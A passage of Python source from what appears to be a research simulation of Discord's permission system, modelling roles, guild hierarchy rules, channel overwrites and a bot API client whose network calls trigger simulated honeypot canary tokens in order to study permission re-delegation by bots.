    role_id: int
    name: str
    permissions: Permissions
    position: int
    managed: bool = False  # True for the auto-created bot role on install.
    mentionable: bool = False

    def __hash__(self) -> int:
        return hash(self.role_id)


@dataclass
class Member:
    """A user's membership inside one guild."""

    user: User
    role_ids: list[int] = field(default_factory=list)
    nickname: str | None = None
    joined_at: float = 0.0

    @property
    def user_id(self) -> int:
        return self.user.user_id

    @property
    def display_name(self) -> str:
        return self.nickname or self.user.name


@dataclass
class Attachment:
    """A file posted to a channel.

    ``remote_resources`` holds URLs embedded in the document (for canary
    Word/PDF tokens: the remote template/DTD reference that fires when the
    document is *opened*, not merely downloaded).
    """

    attachment_id: int
    filename: str
    content_type: str
    size: int
    content: str = ""
    metadata: dict[str, str] = field(default_factory=dict)
    remote_resources: list[str] = field(default_factory=list)

    @property
    def extension(self) -> str:
        _, _, ext = self.filename.rpartition(".")
        return ext.lower()


@dataclass
class Message:
    """A message in a text channel."""

    message_id: int
    channel_id: int
    guild_id: int
    author_id: int
    content: str
    timestamp: float
    attachments: list[Attachment] = field(default_factory=list)
    author_is_bot: bool = False

    def urls(self) -> list[str]:
        """URLs embedded in the message body."""
        return URL_PATTERN.findall(self.content)

    def email_addresses(self) -> list[str]:
        return EMAIL_PATTERN.findall(self.content)


@dataclass
class Channel:
    """A guild channel.  Text channels accumulate messages in order."""

    channel_id: int
    guild_id: int
    name: str
    type: ChannelType = ChannelType.TEXT
    overwrites: dict[int, PermissionOverwrite] = field(default_factory=dict)
    messages: list[Message] = field(default_factory=list)

    def set_overwrite(self, overwrite: PermissionOverwrite) -> None:
        self.overwrites[overwrite.target_id] = overwrite

    def history(self, limit: int | None = None) -> list[Message]:
        """Most-recent-first message history, like the Discord API returns."""
        ordered = list(reversed(self.messages))
        return ordered if limit is None else ordered[:limit]
