"""REST-style API surface for bots.

The platform enforces the **bot's own** permissions on every call (a bot
cannot act without the corresponding permission bit).  What it does *not* do
— and this is the paper's central architectural point — is check whether the
*user who triggered* a bot command holds the permission for the action the
bot performs on their behalf.  That check is the developer's responsibility
(see :func:`repro.discordsim.bot.requires_user_permissions`), and its absence
enables permission re-delegation attacks.

The client also provides :meth:`visit_url` and :meth:`open_attachment`,
which reach out to the virtual internet — these are the actions that trip
the honeypot's canary tokens.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.discordsim.guild import Guild, PermissionDenied
from repro.discordsim.models import Attachment, Message
from repro.discordsim.permissions import Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.web.client import HttpClient
from repro.web.http import Response
from repro.web.network import NetworkError, VirtualInternet


class ApiError(Exception):
    """A bot API call failed."""


@dataclass
class ApiCallRecord:
    """Audit record of one API call made by a bot (for experiment forensics)."""

    time: float
    bot_id: int
    method: str
    detail: str
    allowed: bool


class BotApiClient:
    """API client bound to one bot account.

    ``internet`` is optional; without it, :meth:`visit_url` and
    :meth:`open_attachment` raise :class:`ApiError` (a bot with no network
    egress cannot exfiltrate).
    """

    def __init__(
        self,
        platform: DiscordPlatform,
        bot_user_id: int,
        internet: VirtualInternet | None = None,
    ) -> None:
        if bot_user_id not in platform.users:
            raise ApiError(f"unknown bot user {bot_user_id}")
        self.platform = platform
        self.bot_user_id = bot_user_id
        self.internet = internet
        self._http = (
            HttpClient(internet, client_id=f"bot-{bot_user_id}") if internet is not None else None
        )
        self.calls: list[ApiCallRecord] = []
        #: When set, API calls carry the id of the user whose command the
        #: bot is servicing.  On platforms with a runtime policy enforcer
        #: (Slack/Teams posture) the platform checks *that user's*
        #: permissions too; on Discord it is ignored.
        self.acting_for: int | None = None

    # -- helpers -----------------------------------------------------------

    def _guild(self, guild_id: int) -> Guild:
        guild = self.platform.guilds.get(guild_id)
        if guild is None:
            raise ApiError(f"unknown guild {guild_id}")
        if self.bot_user_id not in guild.members:
            raise ApiError(f"bot is not a member of guild {guild_id}")
        return guild

    def _record(self, method: str, detail: str, allowed: bool) -> None:
        self.calls.append(
            ApiCallRecord(
                time=self.platform.clock.now(),
                bot_id=self.bot_user_id,
                method=method,
                detail=detail,
                allowed=allowed,
            )
        )

    def _require(self, guild: Guild, channel_id: int | None, permission: Permission, method: str) -> None:
        if channel_id is None:
            held = guild.base_permissions(self.bot_user_id)
        else:
            held = guild.permissions_in(self.bot_user_id, channel_id)
        if not held.has(permission):
            self._record(method, f"denied: missing {permission.name}", allowed=False)
            raise PermissionDenied(f"bot lacks {permission.name} for {method}")
        self._record(method, f"granted via {permission.name}", allowed=True)

    # -- messaging ------------------------------------------------------------

    def send_message(self, guild_id: int, channel_id: int, content: str) -> Message:
        guild = self._guild(guild_id)
        self._require(guild, channel_id, Permission.SEND_MESSAGES, "send_message")
        return self.platform.post_message(self.bot_user_id, guild_id, channel_id, content)

    def read_history(self, guild_id: int, channel_id: int, limit: int | None = None) -> list[Message]:
        """Fetch channel history (requires VIEW_CHANNEL + READ_MESSAGE_HISTORY)."""
        guild = self._guild(guild_id)
        self._require(guild, channel_id, Permission.VIEW_CHANNEL, "read_history")
        self._require(guild, channel_id, Permission.READ_MESSAGE_HISTORY, "read_history")
        return guild.channel(channel_id).history(limit)

    def add_reaction(self, guild_id: int, channel_id: int, message_id: int, emoji: str) -> None:
        guild = self._guild(guild_id)
        self._require(guild, channel_id, Permission.ADD_REACTIONS, "add_reaction")

    def delete_message(self, guild_id: int, channel_id: int, message_id: int) -> None:
        guild = self._guild(guild_id)
        self._enforce_user_permission(guild_id, Permission.MANAGE_MESSAGES, "delete_message")
        self._require(guild, channel_id, Permission.MANAGE_MESSAGES, "delete_message")
        channel = guild.channel(channel_id)
        channel.messages = [message for message in channel.messages if message.message_id != message_id]

    # -- moderation -----------------------------------------------------------

    def _enforce_user_permission(self, guild_id: int, permission: Permission, method: str) -> None:
        """Runtime policy enforcer hook (no-op under Discord's policy).

        Slack/Teams-style platforms verify the *invoking user's* permission
        before letting a bot act on their behalf — closing the permission
        re-delegation hole even when the developer never checks.
        """
        if not self.platform.policy.runtime_user_permission_checks:
            return
        if self.acting_for is None:
            return  # bot acting autonomously, not on a user's behalf
        if not self.platform.authorize_user_action(guild_id, self.acting_for, permission):
            self._record(method, f"enforcer denied user {self.acting_for}: {permission.name}", allowed=False)
            raise PermissionDenied(
                f"runtime enforcer: invoking user {self.acting_for} lacks {permission.name}"
            )

    def kick_member(self, guild_id: int, target_id: int, reason: str = "") -> None:
        guild = self._guild(guild_id)
        self._enforce_user_permission(guild_id, Permission.KICK_MEMBERS, "kick_member")
        self._record("kick_member", str(target_id), allowed=True)
        guild.kick(self.bot_user_id, target_id, reason)

    def ban_member(self, guild_id: int, target_id: int, reason: str = "") -> None:
        guild = self._guild(guild_id)
        self._enforce_user_permission(guild_id, Permission.BAN_MEMBERS, "ban_member")
        self._record("ban_member", str(target_id), allowed=True)
        guild.ban(self.bot_user_id, target_id, reason)

    def assign_role(self, guild_id: int, target_id: int, role_id: int) -> None:
        guild = self._guild(guild_id)
        self._enforce_user_permission(guild_id, Permission.MANAGE_ROLES, "assign_role")
        self._record("assign_role", f"{role_id} -> {target_id}", allowed=True)
        guild.assign_role(self.bot_user_id, target_id, role_id)

    def set_nickname(self, guild_id: int, target_id: int, nickname: str | None) -> None:
        guild = self._guild(guild_id)
        self._enforce_user_permission(guild_id, Permission.MANAGE_NICKNAMES, "set_nickname")
        self._record("set_nickname", str(target_id), allowed=True)
        guild.set_nickname(self.bot_user_id, target_id, nickname)

    # -- member/permission introspection (what check-performing bots use) -------

    def member_permissions(self, guild_id: int, user_id: int, channel_id: int | None = None) -> Permissions:
        """The API developers *should* call before acting for a user."""
        guild = self._guild(guild_id)
        if channel_id is None:
            return guild.base_permissions(user_id)
        return guild.permissions_in(user_id, channel_id)

    def guild_count(self) -> int:
        return sum(1 for guild in self.platform.guilds.values() if self.bot_user_id in guild.members)

    # -- egress (the canary-trigger paths) -------------------------------------

    def visit_url(self, url: str, timeout: float = 10.0) -> Response:
        """Fetch a URL found in channel content.

        This is the action that fires a canary *URL* token.
        """
        if self._http is None:
            raise ApiError("bot has no network egress")
        self._record("visit_url", url, allowed=True)
        try:
            return self._http.get(url, timeout=timeout)
        except NetworkError as error:
            raise ApiError(f"fetch failed: {error}") from error

    def open_attachment(self, attachment: Attachment) -> list[Response]:
        """Open a document: fetches every remote resource it embeds.

        Canary Word/PDF tokens embed a unique remote URL in document
        metadata; a client that *renders* the file requests it.  Merely
        downloading the attachment bytes does not trigger anything.
        """
        if self._http is None:
            raise ApiError("bot has no network egress")
        self._record("open_attachment", attachment.filename, allowed=True)
        responses: list[Response] = []
        for resource in attachment.remote_resources:
            try:
                responses.append(self._http.get(resource))
            except NetworkError:
                continue
        return responses

    def send_email(self, to_address: str, subject: str, body: str = "") -> Response | None:
        """Send mail to an address harvested from a channel.

        Canary email addresses are mailboxes on the honeypot console's
        domain; delivering to them fires the email token.
        """
        if self._http is None:
            raise ApiError("bot has no network egress")
        self._record("send_email", to_address, allowed=True)
        _, _, domain = to_address.partition("@")
        if not domain or self.internet is None or not self.internet.knows(f"mail.{domain}"):
            return None
        try:
            return self._http.post(f"https://mail.{domain}/smtp", body=f"To: {to_address}\nSubject: {subject}\n\n{body}")
        except NetworkError:
            return None
