"""Discord's permission bitfield, faithfully reproduced.

Bit positions follow the Discord developer documentation the paper cites
([20], discord.com/developers/docs/topics/permissions) as of the paper's
measurement window (2022).  ``ADMINISTRATOR`` semantics — "allows all
permissions and bypasses channel permission overwrites" — are implemented in
:func:`compute_channel_permissions`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import IntFlag
from typing import Iterable, Iterator


class Permission(IntFlag):
    """Individual permission flags (bit positions match Discord's API)."""

    CREATE_INSTANT_INVITE = 1 << 0
    KICK_MEMBERS = 1 << 1
    BAN_MEMBERS = 1 << 2
    ADMINISTRATOR = 1 << 3
    MANAGE_CHANNELS = 1 << 4
    MANAGE_GUILD = 1 << 5
    ADD_REACTIONS = 1 << 6
    VIEW_AUDIT_LOG = 1 << 7
    PRIORITY_SPEAKER = 1 << 8
    STREAM = 1 << 9
    VIEW_CHANNEL = 1 << 10
    SEND_MESSAGES = 1 << 11
    SEND_TTS_MESSAGES = 1 << 12
    MANAGE_MESSAGES = 1 << 13
    EMBED_LINKS = 1 << 14
    ATTACH_FILES = 1 << 15
    READ_MESSAGE_HISTORY = 1 << 16
    MENTION_EVERYONE = 1 << 17
    USE_EXTERNAL_EMOJIS = 1 << 18
    VIEW_GUILD_INSIGHTS = 1 << 19
    CONNECT = 1 << 20
    SPEAK = 1 << 21
    MUTE_MEMBERS = 1 << 22
    DEAFEN_MEMBERS = 1 << 23
    MOVE_MEMBERS = 1 << 24
    USE_VAD = 1 << 25
    CHANGE_NICKNAME = 1 << 26
    MANAGE_NICKNAMES = 1 << 27
    MANAGE_ROLES = 1 << 28
    MANAGE_WEBHOOKS = 1 << 29
    MANAGE_EMOJIS_AND_STICKERS = 1 << 30
    USE_APPLICATION_COMMANDS = 1 << 31
    REQUEST_TO_SPEAK = 1 << 32
    MANAGE_EVENTS = 1 << 33
    MANAGE_THREADS = 1 << 34
    CREATE_PUBLIC_THREADS = 1 << 35
    CREATE_PRIVATE_THREADS = 1 << 36
    USE_EXTERNAL_STICKERS = 1 << 37
    SEND_MESSAGES_IN_THREADS = 1 << 38
    USE_EMBEDDED_ACTIVITIES = 1 << 39
    MODERATE_MEMBERS = 1 << 40


#: Every defined permission OR-ed together.
ALL_PERMISSIONS_VALUE = 0
for _flag in Permission:
    ALL_PERMISSIONS_VALUE |= _flag.value


#: Human-readable labels exactly as they appear on install screens and in
#: the paper's Figure 3 (e.g. VIEW_CHANNEL is surfaced as "read messages").
DISPLAY_NAMES: dict[Permission, str] = {
    Permission.CREATE_INSTANT_INVITE: "create invite",
    Permission.KICK_MEMBERS: "kick members",
    Permission.BAN_MEMBERS: "ban members",
    Permission.ADMINISTRATOR: "administrator",
    Permission.MANAGE_CHANNELS: "manage channels",
    Permission.MANAGE_GUILD: "manage server",
    Permission.ADD_REACTIONS: "add reactions",
    Permission.VIEW_AUDIT_LOG: "view audit log",
    Permission.PRIORITY_SPEAKER: "priority speaker",
    Permission.STREAM: "video",
    Permission.VIEW_CHANNEL: "read messages",
    Permission.SEND_MESSAGES: "send messages",
    Permission.SEND_TTS_MESSAGES: "send tts messages",
    Permission.MANAGE_MESSAGES: "manage messages",
    Permission.EMBED_LINKS: "embed links",
    Permission.ATTACH_FILES: "attach files",
    Permission.READ_MESSAGE_HISTORY: "read message history",
    Permission.MENTION_EVERYONE: "mention @everyone",
    Permission.USE_EXTERNAL_EMOJIS: "use external emojis",
    Permission.VIEW_GUILD_INSIGHTS: "view guild insights",
    Permission.CONNECT: "connect",
    Permission.SPEAK: "speak",
    Permission.MUTE_MEMBERS: "mute members",
    Permission.DEAFEN_MEMBERS: "deafen members",
    Permission.MOVE_MEMBERS: "move members",
    Permission.USE_VAD: "use voice activity",
    Permission.CHANGE_NICKNAME: "change nickname",
    Permission.MANAGE_NICKNAMES: "manage nicknames",
    Permission.MANAGE_ROLES: "manage roles",
    Permission.MANAGE_WEBHOOKS: "manage webhooks",
    Permission.MANAGE_EMOJIS_AND_STICKERS: "manage emojis and stickers",
    Permission.USE_APPLICATION_COMMANDS: "use application commands",
    Permission.REQUEST_TO_SPEAK: "request to speak",
    Permission.MANAGE_EVENTS: "manage events",
    Permission.MANAGE_THREADS: "manage threads",
    Permission.CREATE_PUBLIC_THREADS: "create public threads",
    Permission.CREATE_PRIVATE_THREADS: "create private threads",
    Permission.USE_EXTERNAL_STICKERS: "use external stickers",
    Permission.SEND_MESSAGES_IN_THREADS: "send messages in threads",
    Permission.USE_EMBEDDED_ACTIVITIES: "use embedded activities",
    Permission.MODERATE_MEMBERS: "moderate members",
}

_BY_DISPLAY_NAME = {label: flag for flag, label in DISPLAY_NAMES.items()}
_BY_API_NAME = {flag.name: flag for flag in Permission}


def permission_from_name(name: str) -> Permission:
    """Resolve an API name (``SEND_MESSAGES``) or display name ("send messages")."""
    key = name.strip()
    if key.upper() in _BY_API_NAME:
        return _BY_API_NAME[key.upper()]
    if key.lower() in _BY_DISPLAY_NAME:
        return _BY_DISPLAY_NAME[key.lower()]
    raise KeyError(f"unknown permission: {name!r}")


class Permissions:
    """An immutable permission *set* backed by the bitfield integer.

    This is the value that travels through invite URLs (``permissions=8``
    requests administrator), role definitions and overwrite math.
    """

    __slots__ = ("value",)

    def __init__(self, value: "int | Permission | Permissions" = 0) -> None:
        if isinstance(value, Permissions):
            value = value.value
        object.__setattr__(self, "value", int(value) & ALL_PERMISSIONS_VALUE)

    def __setattr__(self, name: str, value: object) -> None:
        raise AttributeError("Permissions is immutable")

    # -- constructors -------------------------------------------------------

    @classmethod
    def none(cls) -> "Permissions":
        return cls(0)

    @classmethod
    def all(cls) -> "Permissions":
        return cls(ALL_PERMISSIONS_VALUE)

    @classmethod
    def administrator(cls) -> "Permissions":
        return cls(Permission.ADMINISTRATOR)

    @classmethod
    def default_everyone(cls) -> "Permissions":
        """The baseline the paper describes for the implicit @everyone role."""
        return cls.of(
            Permission.VIEW_CHANNEL,
            Permission.SEND_MESSAGES,
            Permission.READ_MESSAGE_HISTORY,
            Permission.ADD_REACTIONS,
            Permission.CONNECT,
            Permission.SPEAK,
            Permission.USE_VAD,
            Permission.CHANGE_NICKNAME,
            Permission.CREATE_INSTANT_INVITE,
            Permission.EMBED_LINKS,
            Permission.ATTACH_FILES,
            Permission.USE_APPLICATION_COMMANDS,
        )

    @classmethod
    def of(cls, *flags: Permission) -> "Permissions":
        value = 0
        for flag in flags:
            value |= flag.value
        return cls(value)

    @classmethod
    def from_names(cls, names: Iterable[str]) -> "Permissions":
        value = 0
        for name in names:
            value |= permission_from_name(name).value
        return cls(value)

    # -- queries ---------------------------------------------------------------

    def has(self, flag: Permission) -> bool:
        """True if the flag is present *or* ADMINISTRATOR is present."""
        if self.value & Permission.ADMINISTRATOR.value:
            return True
        return bool(self.value & flag.value)

    def has_exactly(self, flag: Permission) -> bool:
        """True only if the flag's own bit is set (no administrator shortcut)."""
        return bool(self.value & flag.value)

    @property
    def is_administrator(self) -> bool:
        return bool(self.value & Permission.ADMINISTRATOR.value)

    def flags(self) -> list[Permission]:
        """The individually-set flags, lowest bit first."""
        return [flag for flag in Permission if self.value & flag.value]

    def display_names(self) -> list[str]:
        """Display labels for the set flags, as a consent screen shows them."""
        return [DISPLAY_NAMES[flag] for flag in self.flags()]

    def redundant_with_administrator(self) -> list[Permission]:
        """Flags that are redundant because ADMINISTRATOR is also requested.

        The paper flags this pattern ("asking for anything in addition to
        admin is redundant") as a signal the developer misunderstands the
        permission system.
        """
        if not self.is_administrator:
            return []
        return [flag for flag in self.flags() if flag is not Permission.ADMINISTRATOR]

    # -- algebra ------------------------------------------------------------------

    def union(self, other: "Permissions | Permission | int") -> "Permissions":
        return Permissions(self.value | Permissions(other).value)

    def intersection(self, other: "Permissions | Permission | int") -> "Permissions":
        return Permissions(self.value & Permissions(other).value)

    def difference(self, other: "Permissions | Permission | int") -> "Permissions":
        return Permissions(self.value & ~Permissions(other).value)

    def is_subset(self, other: "Permissions | Permission | int") -> bool:
        other_value = Permissions(other).value
        return (self.value & other_value) == self.value

    __or__ = union
    __and__ = intersection
    __sub__ = difference

    def __contains__(self, flag: Permission) -> bool:
        return self.has(flag)

    def __iter__(self) -> Iterator[Permission]:
        return iter(self.flags())

    def __len__(self) -> int:
        return len(self.flags())

    def __bool__(self) -> bool:
        return bool(self.value)

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Permissions):
            return self.value == other.value
        if isinstance(other, (int, Permission)):
            return self.value == int(other)
        return NotImplemented

    def __hash__(self) -> int:
        return hash(("Permissions", self.value))

    def __repr__(self) -> str:
        names = ", ".join(flag.name or "?" for flag in self.flags())
        return f"Permissions({self.value}: {names})"


#: Convenience constant used across the ecosystem generator.
ALL_PERMISSIONS = Permissions.all()


@dataclass(frozen=True)
class PermissionOverwrite:
    """A channel-level allow/deny pair targeting a role or member id."""

    target_id: int
    allow: Permissions = field(default_factory=Permissions.none)
    deny: Permissions = field(default_factory=Permissions.none)

    def apply(self, base: Permissions) -> Permissions:
        return (base - self.deny) | self.allow


def compute_base_permissions(member_role_permissions: Iterable[Permissions], is_owner: bool = False) -> Permissions:
    """Guild-level permissions: union of the member's role permissions.

    Owners and administrators resolve to :meth:`Permissions.all`, matching
    Discord's documented algorithm.
    """
    if is_owner:
        return Permissions.all()
    combined = Permissions.none()
    for role_permissions in member_role_permissions:
        combined = combined | role_permissions
    if combined.is_administrator:
        return Permissions.all()
    return combined


def compute_channel_permissions(
    base: Permissions,
    everyone_overwrite: PermissionOverwrite | None,
    role_overwrites: Iterable[PermissionOverwrite],
    member_overwrite: PermissionOverwrite | None,
) -> Permissions:
    """Channel-level permissions per Discord's documented overwrite order.

    ADMINISTRATOR bypasses all overwrites — the property the paper calls out
    when noting that 54.86% of bots request it.
    """
    if base.is_administrator:
        return Permissions.all()
    current = base
    if everyone_overwrite is not None:
        current = everyone_overwrite.apply(current)
    allow = Permissions.none()
    deny = Permissions.none()
    for overwrite in role_overwrites:
        allow = allow | overwrite.allow
        deny = deny | overwrite.deny
    current = (current - deny) | allow
    if member_overwrite is not None:
        current = member_overwrite.apply(current)
    return current
