"""Guilds: roles, members, channels, and the permission hierarchy.

Implements the five hierarchy rules the paper lists in Section 4.1:

i.   an actor can grant roles of a lower position than its own highest role;
ii.  an actor can edit roles of a lower position, but can only grant
     permissions it itself has;
iii. an actor can only re-sort roles lower than its highest role;
iv.  kick / ban / nickname-edit only work on targets whose highest role is
     lower than the actor's highest role;
v.   otherwise permissions do not obey the role hierarchy.

The guild owner bypasses hierarchy checks, matching Discord.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.discordsim.models import Channel, ChannelType, Member, Role, User
from repro.discordsim.permissions import (
    Permission,
    PermissionOverwrite,
    Permissions,
    compute_base_permissions,
    compute_channel_permissions,
)
from repro.discordsim.snowflake import SnowflakeGenerator


class GuildError(Exception):
    """Base class for guild-level failures."""


class PermissionDenied(GuildError):
    """The actor lacks a required permission bit."""


class HierarchyError(GuildError):
    """The action violates the role hierarchy (rules i–iv)."""


class UnknownEntityError(GuildError):
    """Referenced member/role/channel does not exist in this guild."""


@dataclass
class AuditLogEntry:
    """One audit-log record (visible with VIEW_AUDIT_LOG)."""

    time: float
    actor_id: int
    action: str
    target: str
    detail: str = ""


@dataclass
class BanEntry:
    user_id: int
    reason: str
    banned_by: int
    time: float


class Guild:
    """A Discord guild: role-based access control over channels."""

    def __init__(
        self,
        guild_id: int,
        name: str,
        owner: User,
        snowflakes: SnowflakeGenerator,
        private: bool = True,
    ) -> None:
        self.guild_id = guild_id
        self.name = name
        self.owner_id = owner.user_id
        self.private = private
        self._snowflakes = snowflakes
        self.roles: dict[int, Role] = {}
        self.members: dict[int, Member] = {}
        self.channels: dict[int, Channel] = {}
        self.audit_log: list[AuditLogEntry] = []
        self.bans: dict[int, BanEntry] = {}
        self.everyone_role = Role(
            role_id=snowflakes.next_id(),
            name="@everyone",
            permissions=Permissions.default_everyone(),
            position=0,
        )
        self.roles[self.everyone_role.role_id] = self.everyone_role
        self._admit(owner)

    # -- membership ----------------------------------------------------------

    def _admit(self, user: User) -> Member:
        member = Member(user=user, role_ids=[], joined_at=self._snowflakes.clock.now())
        self.members[user.user_id] = member
        user.guild_ids.add(self.guild_id)
        return member

    def add_member(self, user: User) -> Member:
        """Admit a user.  Banned users are refused."""
        if user.user_id in self.bans:
            raise PermissionDenied(f"user {user.user_id} is banned from {self.name}")
        if user.user_id in self.members:
            return self.members[user.user_id]
        member = self._admit(user)
        self._audit(user.user_id, "member.join", str(user.user_id))
        return member

    def remove_member(self, user_id: int) -> None:
        member = self.members.pop(user_id, None)
        if member is not None:
            member.user.guild_ids.discard(self.guild_id)

    def member(self, user_id: int) -> Member:
        try:
            return self.members[user_id]
        except KeyError:
            raise UnknownEntityError(f"user {user_id} not in guild {self.name}") from None

    def bot_members(self) -> list[Member]:
        return [member for member in self.members.values() if member.user.is_bot]

    # -- roles -----------------------------------------------------------------

    def role(self, role_id: int) -> Role:
        try:
            return self.roles[role_id]
        except KeyError:
            raise UnknownEntityError(f"role {role_id} not in guild {self.name}") from None

    def create_role(
        self,
        name: str,
        permissions: Permissions,
        actor_id: int | None = None,
        managed: bool = False,
    ) -> Role:
        """Create a role at the top of the stack (below nothing).

        When ``actor_id`` is given, the actor needs MANAGE_ROLES and — per
        rule ii — cannot mint permissions it does not have.
        """
        if actor_id is not None and actor_id != self.owner_id:
            actor_permissions = self.base_permissions(actor_id)
            if not actor_permissions.has(Permission.MANAGE_ROLES):
                raise PermissionDenied("creating a role requires MANAGE_ROLES")
            if not actor_permissions.is_administrator and not permissions.is_subset(actor_permissions):
                raise HierarchyError("cannot create a role with permissions the actor lacks")
        position = max(role.position for role in self.roles.values()) + 1
        role = Role(
            role_id=self._snowflakes.next_id(),
            name=name,
            permissions=permissions,
            position=position,
            managed=managed,
        )
        self.roles[role.role_id] = role
        self._audit(actor_id or self.owner_id, "role.create", name)
        return role

    def top_role(self, user_id: int) -> Role:
        """The member's highest-positioned role (@everyone if none assigned)."""
        member = self.member(user_id)
        assigned = [self.roles[role_id] for role_id in member.role_ids if role_id in self.roles]
        if not assigned:
            return self.everyone_role
        return max(assigned, key=lambda role: role.position)

    def assign_role(self, actor_id: int, target_id: int, role_id: int) -> None:
        """Rule i: grant a role positioned below the actor's highest role."""
        role = self.role(role_id)
        target = self.member(target_id)
        if actor_id != self.owner_id:
            if not self.base_permissions(actor_id).has(Permission.MANAGE_ROLES):
                raise PermissionDenied("assigning roles requires MANAGE_ROLES")
            if role.position >= self.top_role(actor_id).position:
                raise HierarchyError("rule i: can only grant roles below the actor's highest role")
        if role.role_id not in target.role_ids:
            target.role_ids.append(role.role_id)
        self._audit(actor_id, "role.assign", f"{role.name} -> {target.display_name}")

    def edit_role(self, actor_id: int, role_id: int, new_permissions: Permissions) -> None:
        """Rule ii: edit lower roles; grant only permissions the actor has."""
        role = self.role(role_id)
        if actor_id != self.owner_id:
            actor_permissions = self.base_permissions(actor_id)
            if not actor_permissions.has(Permission.MANAGE_ROLES):
                raise PermissionDenied("editing roles requires MANAGE_ROLES")
            if role.position >= self.top_role(actor_id).position:
                raise HierarchyError("rule ii: can only edit roles below the actor's highest role")
            granted = new_permissions - role.permissions
            if not actor_permissions.is_administrator and not granted.is_subset(actor_permissions):
                raise HierarchyError("rule ii: can only grant permissions the actor has")
        role.permissions = new_permissions
        self._audit(actor_id, "role.edit", role.name)

    def delete_role(self, actor_id: int, role_id: int) -> None:
        """Delete a role (rule ii's position constraint applies).

        The role is unassigned from every member; @everyone and managed
        bot roles cannot be deleted this way.
        """
        role = self.role(role_id)
        if role is self.everyone_role:
            raise HierarchyError("@everyone cannot be deleted")
        if role.managed:
            raise HierarchyError("managed bot roles are removed by uninstalling the bot")
        if actor_id != self.owner_id:
            if not self.base_permissions(actor_id).has(Permission.MANAGE_ROLES):
                raise PermissionDenied("deleting roles requires MANAGE_ROLES")
            if role.position >= self.top_role(actor_id).position:
                raise HierarchyError("rule ii: can only delete roles below the actor's highest role")
        for member in self.members.values():
            if role_id in member.role_ids:
                member.role_ids.remove(role_id)
        del self.roles[role_id]
        self._audit(actor_id, "role.delete", role.name)

    def move_role(self, actor_id: int, role_id: int, new_position: int) -> None:
        """Rule iii: re-sort only roles below the actor's highest role."""
        role = self.role(role_id)
        if new_position < 1:
            raise HierarchyError("positions below 1 are reserved for @everyone")
        if actor_id != self.owner_id:
            if not self.base_permissions(actor_id).has(Permission.MANAGE_ROLES):
                raise PermissionDenied("moving roles requires MANAGE_ROLES")
            top = self.top_role(actor_id).position
            if role.position >= top or new_position >= top:
                raise HierarchyError("rule iii: can only sort roles below the actor's highest role")
        role.position = new_position
        self._audit(actor_id, "role.move", f"{role.name} -> {new_position}")

    # -- moderation (rule iv) ------------------------------------------------

    def _check_moderation(self, actor_id: int, target_id: int, required: Permission, action: str) -> None:
        if target_id == self.owner_id:
            raise HierarchyError(f"cannot {action} the guild owner")
        if actor_id == self.owner_id:
            return
        if not self.base_permissions(actor_id).has(required):
            raise PermissionDenied(f"{action} requires {required.name}")
        if self.top_role(target_id).position >= self.top_role(actor_id).position:
            raise HierarchyError(f"rule iv: target's highest role is not below the actor's for {action}")

    def kick(self, actor_id: int, target_id: int, reason: str = "") -> None:
        self.member(target_id)
        self._check_moderation(actor_id, target_id, Permission.KICK_MEMBERS, "kick")
        self.remove_member(target_id)
        self._audit(actor_id, "member.kick", str(target_id), reason)

    def ban(self, actor_id: int, target_id: int, reason: str = "") -> None:
        self.member(target_id)
        self._check_moderation(actor_id, target_id, Permission.BAN_MEMBERS, "ban")
        self.bans[target_id] = BanEntry(
            user_id=target_id, reason=reason, banned_by=actor_id, time=self._snowflakes.clock.now()
        )
        self.remove_member(target_id)
        self._audit(actor_id, "member.ban", str(target_id), reason)

    def unban(self, actor_id: int, target_id: int) -> None:
        """Lift a ban (requires BAN_MEMBERS; no hierarchy check — the
        target is not a member, so rule iv has nothing to compare)."""
        if target_id not in self.bans:
            raise UnknownEntityError(f"user {target_id} is not banned")
        if actor_id != self.owner_id and not self.base_permissions(actor_id).has(Permission.BAN_MEMBERS):
            raise PermissionDenied("unban requires BAN_MEMBERS")
        del self.bans[target_id]
        self._audit(actor_id, "member.unban", str(target_id))

    def set_nickname(self, actor_id: int, target_id: int, nickname: str | None) -> None:
        target = self.member(target_id)
        if actor_id == target_id:
            if actor_id != self.owner_id and not self.base_permissions(actor_id).has(Permission.CHANGE_NICKNAME):
                raise PermissionDenied("changing own nickname requires CHANGE_NICKNAME")
        else:
            self._check_moderation(actor_id, target_id, Permission.MANAGE_NICKNAMES, "edit nickname of")
        target.nickname = nickname
        self._audit(actor_id, "member.nickname", str(target_id), nickname or "")

    # -- channels -----------------------------------------------------------

    def create_channel(
        self,
        name: str,
        type: ChannelType = ChannelType.TEXT,
        actor_id: int | None = None,
    ) -> Channel:
        if actor_id is not None and actor_id != self.owner_id:
            if not self.base_permissions(actor_id).has(Permission.MANAGE_CHANNELS):
                raise PermissionDenied("creating channels requires MANAGE_CHANNELS")
        channel = Channel(
            channel_id=self._snowflakes.next_id(),
            guild_id=self.guild_id,
            name=name,
            type=type,
        )
        self.channels[channel.channel_id] = channel
        self._audit(actor_id or self.owner_id, "channel.create", name)
        return channel

    def channel(self, channel_id: int) -> Channel:
        try:
            return self.channels[channel_id]
        except KeyError:
            raise UnknownEntityError(f"channel {channel_id} not in guild {self.name}") from None

    def text_channels(self) -> list[Channel]:
        return [channel for channel in self.channels.values() if channel.type is ChannelType.TEXT]

    # -- permission resolution ----------------------------------------------------

    def base_permissions(self, user_id: int) -> Permissions:
        """Guild-level permissions for a member (Discord's algorithm)."""
        member = self.member(user_id)
        role_permissions = [self.everyone_role.permissions]
        role_permissions += [self.roles[role_id].permissions for role_id in member.role_ids if role_id in self.roles]
        return compute_base_permissions(role_permissions, is_owner=user_id == self.owner_id)

    def permissions_in(self, user_id: int, channel_id: int) -> Permissions:
        """Channel-level permissions after overwrites."""
        member = self.member(user_id)
        channel = self.channel(channel_id)
        base = self.base_permissions(user_id)
        everyone_overwrite = channel.overwrites.get(self.everyone_role.role_id)
        role_overwrites = [
            channel.overwrites[role_id] for role_id in member.role_ids if role_id in channel.overwrites
        ]
        member_overwrite = channel.overwrites.get(user_id)
        return compute_channel_permissions(base, everyone_overwrite, role_overwrites, member_overwrite)

    def set_channel_overwrite(self, actor_id: int, channel_id: int, overwrite: PermissionOverwrite) -> None:
        if actor_id != self.owner_id and not self.base_permissions(actor_id).has(Permission.MANAGE_ROLES):
